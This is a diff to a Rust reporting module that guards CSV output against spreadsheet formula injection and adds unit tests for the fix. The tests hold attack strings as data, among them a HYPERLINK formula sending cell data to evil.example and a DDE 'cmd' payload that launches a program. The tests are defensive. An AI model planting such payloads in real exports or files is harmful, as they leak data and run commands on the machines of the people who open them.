@@ -109,9 +109,18 @@ pub fn run(o: &ReportOptions) -> anyhow::Result<(Summary, Vec<PathBuf>)> {
     Ok((s, files))
 }
 
-/// A CSV field, quoted when it must be.
+/// A CSV field, quoted when it must be, and never a formula: names,
+/// titles and ticket text come from anyone who can open a pull request or
+/// a ticket, and a cell that starts with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return (or their full-width forms, after any spaces) is run by
+/// a spreadsheet. Such a cell gets a leading `'` and quotes, as OWASP's
+/// CSV-injection guidance says; report.json keeps the value exact.
 pub(crate) fn csv(field: &str) -> String {
-    if field.contains([',', '"', '\n']) {
+    const LIVE: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];
+    let live = field.starts_with(LIVE) || field.trim_start_matches(' ').starts_with(LIVE);
+    if live {
+        format!("\"'{}\"", field.replace('"', "\"\""))
+    } else if field.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", field.replace('"', "\"\""))
     } else {
         field.to_string()
@@ -178,4 +187,39 @@ pub fn parse_date(text: &str) -> Result<chrono::NaiveDate, String> {
 /// Whether `path` looks like an archive.
 pub fn is_archive(path: &Path) -> bool {
     path.join(EVIDENCE).is_dir()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv;
+
+    #[test]
+    fn a_csv_cell_is_quoted_when_it_must_be() {
+        assert_eq!(csv("payments"), "payments");
+        assert_eq!(csv("a,b"), "\"a,b\"");
+        assert_eq!(csv("say \"hi\""), "\"say \"\"hi\"\"\"");
+        assert_eq!(csv("two\nlines"), "\"two\nlines\"");
+        assert_eq!(csv("2026-01-01T00:00:00Z"), "2026-01-01T00:00:00Z");
+    }
+
+    #[test]
+    fn a_csv_cell_is_never_a_formula() {
+        let attacks = [
+            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1:A9)",
+            "\t=1+1",
+            "\r=1+1",
+            "  =1+1",
+            "\u{FF1D}1+1",
+        ];
+        for attack in attacks {
+            let cell = csv(attack);
+            assert!(cell.starts_with("\"'"), "{attack:?} written as {cell:?}");
+            // The value itself is kept, after the quote, quotes doubled.
+            assert_eq!(cell[2..cell.len() - 1].replace("\"\"", "\""), attack);
+        }
+        assert_eq!(csv("alice=bob"), "alice=bob");
+    }
 }
